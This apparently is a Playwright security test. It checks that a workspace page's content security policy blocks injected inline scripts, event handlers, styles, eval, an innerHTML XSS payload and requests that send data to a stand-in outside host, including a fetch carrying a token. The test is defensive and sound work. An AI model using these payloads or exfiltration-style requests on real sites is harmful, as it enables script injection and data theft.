// The content security policy in force, as the distribution sends it. That no page violates it is held by every other journey.

import { expect, test } from "./cloud";

interface Attacked {
  ran?: string[];
  violations?: string[];
}

test("what is injected into the page does not run", async ({ person, allow }) => {
  allow(/blocked by|Content Security Policy|TrustedHTML|TrustedScript|Refused/);
  const { person: kim, page } = await person("Kim Osei", {
    // A document that a test answers has no address, and browsers ask before it may call this machine.
    permissions: ["local-network-access"],
  });
  const workspace = await kim.workspace();
  // The real document, with what an attacker would have written into it; its headers stay as they are.
  await page.route(`**/w/${workspace}`, async (route) => {
    const answer = await route.fetch();
    const attack = `<script>(window.ran ??= []).push("inline script")</script><img src="/icon.svg?" onload="(window.ran ??= []).push('handler')"><style>body{display:none}</style>`;
    await route.fulfill({ response: answer, body: (await answer.text()).replace("<body>", `<body>${attack}`) });
  });
  await page.addInitScript(() => {
    const seen: string[] = ((window as Attacked).violations = []);
    addEventListener("securitypolicyviolation", ({ effectiveDirective }) => void seen.push(effectiveDirective));
  });
  const answer = await page.goto(`/w/${workspace}`);
  expect(answer?.headers()["content-security-policy"]).toContain("default-src 'none'");
  expect(answer?.headers()["content-security-policy"]).not.toMatch(/unsafe|\*/);
  await expect(page.getByRole("heading", { level: 1, name: "Overview" }), "the page itself works, and shows").toBeVisible();
  await expect(page.getByRole("heading", { name: "Get started" })).toBeVisible();
  const violations = () => page.evaluate(() => (window as Attacked).violations);
  await expect.poll(violations).toEqual(expect.arrayContaining(["script-src-elem", "script-src-attr", "style-src-elem"]));

  await test.step("nor does what a script of the page writes", async () => {
    const refused = await page.evaluate(async () => {
      // Out of the test's own call, for which eval is allowed.
      await new Promise((done) => setTimeout(done));
      const attempts: Record<string, () => void> = {
        markup: () => void (document.createElement("div").innerHTML = "<img src=x onerror=alert(1)>"),
        script: () => void (document.createElement("script").textContent = "(window.ran ??= []).push('text')"),
        address: () => void (document.createElement("script").src = "https://example.com/x.js"),
        eval: () => void eval("(window.ran ??= []).push('eval')"),
      };
      const threw = (attempt: () => void) => {
        try {
          attempt();
          return false;
        } catch {
          return true;
        }
      };
      return Object.keys(attempts).filter((name) => threw(attempts[name] ?? (() => undefined)));
    });
    expect(refused).toEqual(["markup", "script", "address", "eval"]);
  });

  await test.step("nor is anything sent elsewhere", async () => {
    const elsewhere: string[] = [];
    page.on("requestfinished", (request) => void (request.url().startsWith("https://example.com") && elsewhere.push(request.url())));
    const sent = await page.evaluate(() => fetch("https://example.com/?token").then(() => "sent", () => "blocked"));
    await page.evaluate(() => void document.body.append(Object.assign(new Image(), { src: "https://example.com/pixel.png" })));
    await page.evaluate(() => void document.body.append(Object.assign(document.createElement("iframe"), { src: "https://example.com/" })));
    await expect.poll(violations).toEqual(expect.arrayContaining(["connect-src", "img-src", "frame-src", "require-trusted-types-for"]));
    expect(sent).toBe("blocked");
    expect(elsewhere).toEqual([]);
  });

  expect(await page.evaluate(() => (window as Attacked).ran), "nothing of it ran").toBeUndefined();
});
